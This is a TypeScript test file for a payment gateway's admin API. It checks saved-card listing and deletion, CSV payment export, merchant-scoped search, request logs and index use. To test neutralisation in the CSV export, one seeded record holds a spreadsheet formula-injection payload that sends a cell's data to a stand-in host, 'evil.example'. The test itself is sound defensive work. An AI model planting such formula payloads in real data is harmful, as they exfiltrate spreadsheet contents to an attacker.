/**
 * The dashboard's records through the admin API: a merchant's saved cards listed in pages and
 * deleted as DELETE /v1/registrations/{id} deletes them (audited), the payments list exported as
 * CSV (every page, formulas neutralised, no card number), the search box (operators everywhere,
 * a merchant's users their own merchant), and the recent API requests (recorded off the
 * request's path, no bodies).
 */
import { join } from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import { type CompiledQuery, Kysely, SqliteDialect } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../../../shared/engine/core/ids';
import type { Payment } from '../../../../shared/engine/core/model';
import { asMinor } from '../../../../shared/money';
import { apiRequestStore } from '../../../storage/api-requests/store';
import type { Database } from '../../../storage/core/database';
import { SQLITE_FILE } from '../../../storage/open';
import { registrationListStore } from '../../../storage/registrations/list';
import { recordSearchStore } from '../../../storage/search/store';
import { ADMIN_TOKEN, addUser, adminCall, type Session, signIn } from '../../../test-kit/admin';
import { VISA_CARD } from '../../../test-kit/fixtures/cards';
import { type TestGateway, type TestMerchant, testGateway } from '../../../test-kit/gateway';

const CARD = { ...VISA_CARD, 'card.cvv': '987' };
const NUMBER = VISA_CARD['card.number'];

let gw: TestGateway;
let m: TestMerchant;
let other: TestMerchant;
let shopAdmin: Session;
let viewer: Session;
let otherAdmin: Session;

beforeAll(async () => {
  gw = await testGateway({
    env: { GATEWAY_ADMIN_TOKEN: ADMIN_TOKEN },
    scheduler: { autoStart: false },
    webhooks: { autoStart: false },
  });
  m = await gw.addMerchant({ channels: 1 });
  other = await gw.addMerchant({ channels: 1 });
  await addUser(gw, 'records-admin', 'merchant-admin', m.merchantId);
  await addUser(gw, 'records-viewer', 'merchant-viewer', m.merchantId);
  await addUser(gw, 'other-admin', 'merchant-admin', other.merchantId);
  shopAdmin = await signIn(gw.app, 'records-admin');
  viewer = await signIn(gw.app, 'records-viewer');
  otherAdmin = await signIn(gw.app, 'other-admin');
}, 60_000);
afterAll(() => gw?.cleanup());

const asOperator = (method: string, path: string) => adminCall(gw.app, method, path, { token: ADMIN_TOKEN });
const register = async (who: TestMerchant, holder: string) => {
  const res = await gw.post(
    '/v1/registrations',
    { entityId: who.entityId, ...CARD, 'card.holder': holder },
    { token: who.token },
  );
  expect(res.status, res.text).toBe(200);
  return res.body.id as string;
};

describe("a merchant's saved cards", () => {
  const ids: string[] = [];
  beforeAll(async () => {
    for (const holder of ['Ann One', 'Bob Two', 'Cy Three']) ids.push(await register(m, holder));
    await register(other, 'Not Yours');
  });

  it('lists them newest first in keyset pages, the card masked as the API answers it', async () => {
    const first = await shopAdmin.call('GET', `/admin/v1/merchants/${m.merchantId}/registrations?limit=2`);
    expect(first.status, first.text).toBe(200);
    expect(first.body.registrations).toHaveLength(2);
    expect(first.body.registrations[0]).toMatchObject({
      paymentBrand: 'VISA',
      bin: NUMBER.slice(0, 6),
      last4: NUMBER.slice(-4),
      expiryMonth: VISA_CARD['card.expiryMonth'],
      expiryYear: VISA_CARD['card.expiryYear'],
      status: 'active',
      entityId: m.entityId,
      deletedAt: null,
    });
    const second = await shopAdmin.call(
      'GET',
      `/admin/v1/merchants/${m.merchantId}/registrations?limit=2&after=${first.body.next}`,
    );
    const listed = [...first.body.registrations, ...second.body.registrations].map((r) => r.id);
    expect(new Set(listed)).toEqual(new Set(ids));
    expect(second.body.next).toBeNull();
    expect(first.text + second.text).not.toContain(NUMBER);
    // no CVV: no field named for it, no value that is it (the ids are random hex and may hold
    // its digits, so the text as a whole cannot be searched for them)
    const values: [string, unknown][] = [...first.body.registrations, ...second.body.registrations].flatMap(
      (r: Record<string, unknown>) => Object.entries(r),
    );
    expect(values.filter(([name]) => /cvv|verification/i.test(name))).toEqual([]);
    expect(values.filter(([, value]) => value === '987')).toEqual([]);
  });

  it('refuses a bad page with parameterErrors naming each field', async () => {
    const res = await shopAdmin.call(
      'GET',
      `/admin/v1/merchants/${m.merchantId}/registrations?limit=0&after=x`,
    );
    expect(res.status).toBe(400);
    expect(res.body.result.parameterErrors.map((e: { name: string }) => e.name).sort()).toEqual([
      'after',
      'limit',
    ]);
  });

  it("deletes one as DELETE /v1/registrations/{id} does, audited; a viewer may not, another merchant's user finds none", async () => {
    const id = ids[0]!;
    const path = `/admin/v1/merchants/${m.merchantId}/registrations/${id}`;
    expect((await viewer.call('DELETE', path)).status).toBe(403);
    expect((await otherAdmin.call('DELETE', path)).status).toBe(404);
    const deleted = await shopAdmin.call('DELETE', path);
    expect(deleted.status, deleted.text).toBe(200);
    expect(deleted.body).toMatchObject({ id, status: 'deleted', deletedAt: expect.any(String) });
    // the merchant API no longer knows it, nor can pay with it
    const read = await gw.get(`/v1/registrations/${id}`, { entityId: m.entityId }, { token: m.token });
    expect(read.status).toBe(404);
    const pay = await gw.post(
      `/v1/registrations/${id}/payments`,
      { entityId: m.entityId, amount: '1.00', currency: 'EUR', paymentType: 'DB' },
      { token: m.token },
    );
    expect(pay.status).toBe(400);
    const again = await shopAdmin.call('DELETE', path);
    expect(again.status).toBe(400);
    expect(again.body.result.description).toMatch(/deleted already/);
    const audit = await asOperator('GET', `/admin/v1/audit?action=registration.delete`);
    expect(audit.body.entries.map((e: { target: string }) => e.target)).toContain(id);
    const unknown = await shopAdmin.call(
      'DELETE',
      `/admin/v1/merchants/${m.merchantId}/registrations/${newId()}`,
    );
    expect(unknown.status).toBe(404);
  });
});

describe('the payments export', () => {
  let merchant: TestMerchant;
  const seeded: Payment[] = [];
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Click")';
  beforeAll(async () => {
    merchant = await gw.addMerchant({ channels: 2 });
    const base = Date.parse('2026-11-01T00:00:00Z');
    for (let i = 0; i < 620; i++) {
      const p: Payment = {
        id: newId(),
        merchantId: merchant.merchantId,
        channelId: merchant.entityIds[i % 2]!,
        paymentType: 'DB',
        paymentBrand: 'VISA',
        amount: asMinor(1000 + i),
        currency: i % 10 === 0 ? 'JPY' : 'EUR',
        resultCode: i % 4 === 0 ? '800.100.151' : '000.100.110',
        resultDescription: '',
        shortId: `2000.0000.${String(i).padStart(4, '0')}`,
        ndc: newId(),
        merchantTransactionId: i === 7 ? HYPERLINK : `order-${i}`,
        details: {},
        createdAt: new Date(base + Math.floor(i / 2) * 60_000),
      };
      await gw.store.insertPayment(p);
      seeded.push(p);
    }
    // and one real card payment, its number sealed in the store
    const res = await gw.post(
      '/v1/payments',
      { entityId: merchant.entityId, amount: '12.30', currency: 'EUR', paymentType: 'DB', ...CARD },
      { token: merchant.token },
    );
    expect(res.status, res.text).toBe(200);
  }, 60_000);

  const csv = (query: string) =>
    asOperator('GET', `/admin/v1/merchants/${merchant.merchantId}/payments.csv${query}`);
  const rows = (text: string) => text.split('\r\n').filter((l) => l !== '');

  it('streams every payment the filters match, newest first, over more than one page', async () => {
    const res = await csv('?status=success');
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...lines] = rows(res.text);
    expect(header).toBe(
      'CreatedAt;Id;ShortId;EntityId;PaymentType;PaymentBrand;Amount;Currency;Status;ResultCode;ResultDescription;MerchantTransactionId;CardBin;CardLast4Digits;ReferencedId',
    );
    const wanted = seeded
      .filter((p) => p.resultCode === '000.100.110')
      .sort((x, y) => y.createdAt.getTime() - x.createdAt.getTime() || (x.id < y.id ? 1 : -1))
      .map((p) => p.id);
    // the card payment is the newest
    expect(lines).toHaveLength(wanted.length + 1);
    expect(lines.slice(1).map((l) => l.split(';')[1])).toEqual(wanted);
  });

  it('writes amounts as decimal strings, the card as bin and last four, and neutralises formulas', async () => {
    const res = await csv('');
    const lines = rows(res.text);
    expect(lines).toHaveLength(seeded.length + 2);
    const card = lines[1]!.split(';');
    expect(card.slice(6, 8)).toEqual(['12.30', 'EUR']);
    expect(card.slice(12, 14)).toEqual([NUMBER.slice(0, 6), NUMBER.slice(-4)]);
    expect(res.text).not.toContain(NUMBER);
    // JPY has no minor unit: DEC2 as the API writes every amount
    const jpy = lines.find((l) => l.includes(seeded[10]!.id))!.split(';');
    expect(jpy.slice(6, 8)).toEqual(['1010.00', 'JPY']);
    const formula = lines.find((l) => l.includes(seeded[7]!.id))!;
    expect(formula).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""Click"")"`);
  });

  it('refuses bad filters with parameterErrors, and an unknown merchant with 404', async () => {
    const bad = await csv('?status=paid&amount=x');
    expect(bad.status).toBe(400);
    expect(bad.body.result.parameterErrors.map((e: { name: string }) => e.name).sort()).toEqual([
      'amount',
      'status',
    ]);
    expect((await asOperator('GET', `/admin/v1/merchants/${newId()}/payments.csv`)).status).toBe(404);
    expect(
      (await otherAdmin.call('GET', `/admin/v1/merchants/${merchant.merchantId}/payments.csv`)).status,
    ).toBe(404);
  });
});

describe('the search box', () => {
  let paymentId: string;
  let registrationId: string;
  let checkoutId: string;
  let otherPayment: string;
  beforeAll(async () => {
    const pay = await gw.post(
      '/v1/payments',
      {
        entityId: m.entityId,
        amount: '9.99',
        currency: 'EUR',
        paymentType: 'DB',
        merchantTransactionId: 'find-me-42',
        ...CARD,
      },
      { token: m.token },
    );
    paymentId = pay.body.id;
    registrationId = await register(m, 'Search Me');
    const checkout = await gw.post(
      '/v1/checkouts',
      { entityId: m.entityId, amount: '5.00', currency: 'EUR', paymentType: 'DB' },
      { token: m.token },
    );
    checkoutId = checkout.body.id;
    const theirs = await gw.post(
      '/v1/payments',
      {
        entityId: other.entityId,
        amount: '1.00',
        currency: 'EUR',
        paymentType: 'DB',
        merchantTransactionId: 'find-me-42',
        ...CARD,
      },
      { token: other.token },
    );
    otherPayment = theirs.body.id;
  });

  const search = (who: Session | 'operator', q: string) => {
    const path = `/admin/v1/search?q=${encodeURIComponent(q)}`;
    return who === 'operator' ? asOperator('GET', path) : who.call('GET', path);
  };
  const found = (res: { body: { results: { kind: string; id: string }[] } }) =>
    res.body.results.map((r) => `${r.kind}:${r.id}`).sort();

  it('finds a payment by id and by merchantTransactionId, a registration, a checkout and a merchant', async () => {
    expect(found(await search('operator', paymentId))).toEqual([`payment:${paymentId}`]);
    expect(found(await search('operator', 'find-me-42'))).toEqual(
      [`payment:${paymentId}`, `payment:${otherPayment}`].sort(),
    );
    expect(found(await search('operator', registrationId))).toEqual([`registration:${registrationId}`]);
    const checkout = await search('operator', checkoutId);
    expect(checkout.body.results).toEqual([
      expect.objectContaining({
        kind: 'checkout',
        id: checkoutId,
        merchantId: m.merchantId,
        paymentId: null,
      }),
    ]);
    expect(found(await search('operator', m.merchantId))).toEqual([`merchant:${m.merchantId}`]);
    const merchant = await asOperator('GET', `/admin/v1/merchants/${m.merchantId}`);
    const byName = await search('operator', merchant.body.name.slice(0, 4));
    expect(found(byName)).toContain(`merchant:${m.merchantId}`);
  });

  it("gives a merchant's user only their own merchant's things, and no merchants", async () => {
    expect(found(await search(shopAdmin, 'find-me-42'))).toEqual([`payment:${paymentId}`]);
    expect(found(await search(otherAdmin, paymentId))).toEqual([]);
    expect(found(await search(otherAdmin, registrationId))).toEqual([]);
    expect(found(await search(shopAdmin, m.merchantId))).toEqual([]);
  });

  it('refuses an empty or overlong text, naming q', async () => {
    for (const q of ['', 'x'.repeat(256)]) {
      const res = await search('operator', q);
      expect(res.status).toBe(400);
      expect(res.body.result.parameterErrors[0].name).toBe('q');
    }
  });
});

describe('the recent API requests', () => {
  it("lists the merchant's own requests newest first: route, status, result code, duration, request id; no body", async () => {
    const who = await gw.addMerchant({ channels: 1 });
    const pay = await gw.post(
      '/v1/payments',
      { entityId: who.entityId, amount: '3.00', currency: 'EUR', paymentType: 'DB', ...CARD },
      { token: who.token },
    );
    const read = await gw.get(`/v1/payments/${newId()}`, { entityId: who.entityId }, { token: who.token });
    const list = () => asOperator('GET', `/admin/v1/merchants/${who.merchantId}/requests`);
    await expect.poll(async () => (await list()).body.requests?.length, { timeout: 10_000 }).toBe(2);
    const res = await list();
    expect(res.body.requests).toEqual([
      {
        method: 'GET',
        route: '/v1/payments/:id',
        status: 404,
        resultCode: '700.400.580',
        durationMs: expect.any(Number),
        requestId: read.headers.get('x-request-id'),
        at: expect.any(String),
      },
      {
        method: 'POST',
        route: '/v1/payments',
        status: 200,
        resultCode: pay.body.result.code,
        durationMs: expect.any(Number),
        requestId: pay.headers.get('x-request-id'),
        at: expect.any(String),
      },
    ]);
    expect(res.text).not.toContain(NUMBER);
    expect(res.text).not.toContain(who.token);
    // another merchant's list does not hold them
    const theirs = await asOperator('GET', `/admin/v1/merchants/${other.merchantId}/requests`);
    expect(theirs.text).not.toContain(pay.headers.get('x-request-id')!);
    expect((await otherAdmin.call('GET', `/admin/v1/merchants/${who.merchantId}/requests`)).status).toBe(404);
    const bad = await asOperator('GET', `/admin/v1/merchants/${who.merchantId}/requests?limit=501`);
    expect(bad.body.result.parameterErrors[0].name).toBe('limit');
  });

  it("keeps each merchant's newest 500, deleting older ones as new ones are written", async () => {
    const who = await gw.addMerchant({ channels: 1 });
    const at = new Date('2026-11-30T00:00:00Z');
    const records = Array.from({ length: 510 }, (_, i) => ({
      merchantId: who.merchantId,
      method: 'GET',
      route: '/v1/payments/:id',
      status: 200,
      resultCode: '000.100.110',
      durationMs: 1.5,
      requestId: `request-${i}`,
      at,
    }));
    await gw.store.insertApiRequests(records.slice(0, 300));
    await gw.store.insertApiRequests(records.slice(300));
    const kept = await gw.store.listApiRequests(who.merchantId, 1000);
    expect(kept).toHaveLength(500);
    expect(kept[0]).toMatchObject({ requestId: 'request-509', durationMs: 1.5 });
    expect(kept[499]!.requestId).toBe('request-10');
  });

  it('counts requests it could not queue in gateway_api_requests_dropped_total', async () => {
    const scrape = await gw.ops.metrics.registry.metrics();
    expect(scrape).toMatch(/^gateway_api_requests_dropped_total 0$/m);
  });
});

describe('the records read through indexes only', () => {
  it('plans every lookup of the search, the saved cards and the requests as an index SEARCH, no SCAN', async () => {
    const file = new BetterSqlite3(join(gw.dataDir, SQLITE_FILE), { readonly: true });
    const queries: CompiledQuery[] = [];
    const db = new Kysely<Database>({
      dialect: new SqliteDialect({ database: file }),
      log: (event) => void queries.push(event.query),
    });
    const context = { db, sealer: { seal: <T>(x: T) => x, open: <T>(x: T) => x } };
    try {
      const search = recordSearchStore(context);
      await search.findPayments('order-1', [m.merchantId, other.merchantId]);
      await search.findRegistration(newId());
      await search.findCheckout('0'.repeat(32));
      await search.findMerchants('Merch');
      await registrationListStore(context).listRegistrationsPage({
        merchantId: m.merchantId,
        channelIds: [m.entityId],
        limit: 25,
        before: { at: Date.now(), id: newId() },
      });
      await apiRequestStore(context).listApiRequests(m.merchantId, 100);
      // a payment by id and by merchantTransactionId are two lookups
      expect(queries).toHaveLength(7);
      for (const q of queries) {
        const plan = file
          .prepare(`EXPLAIN QUERY PLAN ${q.sql}`)
          .all(...(q.parameters as unknown[]))
          .map((r) => (r as { detail: string }).detail)
          .join('\n');
        expect(plan, q.sql).not.toMatch(/\bSCAN\b/);
        expect(plan, q.sql).toMatch(/SEARCH \w+ USING (INDEX|INTEGER PRIMARY KEY|PRIMARY KEY)/);
      }
    } finally {
      await db.destroy();
    }
  });
});
